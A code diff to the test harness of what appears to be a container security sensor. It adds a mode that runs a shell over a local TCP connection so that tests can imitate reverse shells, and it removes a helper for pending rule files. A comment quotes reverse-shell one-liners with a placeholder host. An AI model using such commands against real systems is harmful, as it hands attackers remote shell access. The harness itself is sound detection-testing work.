@@ -95,6 +95,10 @@ pub enum How {
     /// pseudo-terminal as its stdio, so the shell has a controlling terminal
     /// (as `kubectl exec -it` gives).
     Terminal,
+    /// The container sleeps; `runc exec` runs `/bin/sh -c SCRIPT` with a TCP
+    /// connection (to a listener of the test) as its stdio: what a reverse
+    /// shell (`sh -i >& /dev/tcp/HOST/PORT 0>&1`, `socat exec:sh`) looks like.
+    SocketStdio,
     /// The container sleeps; a child of the test joins its cgroup (as `runc exec`
     /// does, without its namespaces) and makes the system calls of the function:
     /// for those no busybox applet makes (bpf, ptrace, memfd exec, ...).
@@ -133,6 +137,14 @@ impl Act {
     pub fn terminal(script: impl Into<String>) -> Self {
         Self {
             how: How::Terminal,
+            ..Self::sh(script)
+        }
+    }
+
+    /// The script in a shell whose stdio is a TCP connection.
+    pub fn over_socket(script: impl Into<String>) -> Self {
+        Self {
+            how: How::SocketStdio,
             ..Self::sh(script)
         }
     }
@@ -187,7 +199,7 @@ impl Act {
         let script = ["/bin/sh", "-c", self.script.as_str()];
         let args: &[&str] = match self.how {
             How::Init => &script,
-            How::Terminal | How::Syscalls(_) => &sleeper,
+            How::Terminal | How::SocketStdio | How::Syscalls(_) => &sleeper,
         };
         let container = Container::create_spec(&Spec {
             nonce: &marker,
@@ -202,6 +214,7 @@ impl Act {
         match self.how {
             How::Init => container.wait(Duration::from_secs(20)),
             How::Terminal => exec_with_terminal(&container, &self.script),
+            How::SocketStdio => exec_over_socket(&container, &self.script),
             How::Syscalls(body) => in_cgroup(&container, body),
         }
         container
@@ -244,6 +257,28 @@ fn exec_with_terminal(container: &Container, script: &str) {
     let mut leader = std::fs::File::from(leader);
     let mut buf = [0u8; 512];
     while std::io::Read::read(&mut leader, &mut buf).is_ok_and(|n| n > 0) {}
+}
+
+/// `runc exec` of `/bin/sh -c script`, its stdio a TCP connection to the test.
+fn exec_over_socket(container: &Container, script: &str) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("binding");
+    let client = std::net::TcpStream::connect(listener.local_addr().expect("an address"))
+        .expect("connecting");
+    let (mut server, _) = listener.accept().expect("accepting");
+    let client = OwnedFd::from(client);
+    let stdio = || Stdio::from(client.try_clone().expect("dup the socket"));
+    let status = Command::new("runc")
+        .args(["exec", "-d", &container.id, "/bin/sh", "-c", script])
+        .stdin(stdio())
+        .stdout(stdio())
+        .stderr(stdio())
+        .status()
+        .expect("running runc exec");
+    assert!(status.success(), "runc exec over a socket: {status}");
+    // The shell has ended when the connection's last copy closes: EOF.
+    drop(client);
+    let mut buf = [0u8; 512];
+    while std::io::Read::read(&mut server, &mut buf).is_ok_and(|n| n > 0) {}
 }
 
 /// Forks a child that moves itself into `container`'s cgroup, runs `body` (raw
@@ -414,14 +449,4 @@ pub fn check(sensor: &Sensor, cases: &[Case]) {
     );
     drop(ran);
     assert!(failures.is_empty(), "{}", failures.join("\n"));
-}
-
-/// `--rules` arguments for the default set and the rules still waiting for
-/// their fields (`rules/default/pending.yaml`).
-pub fn with_pending_rules() -> Vec<String> {
-    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/default");
-    ["sensor_rules.yaml", "pending.yaml"]
-        .iter()
-        .flat_map(|f| ["--rules".to_owned(), dir.join(f).display().to_string()])
-        .collect()
 }
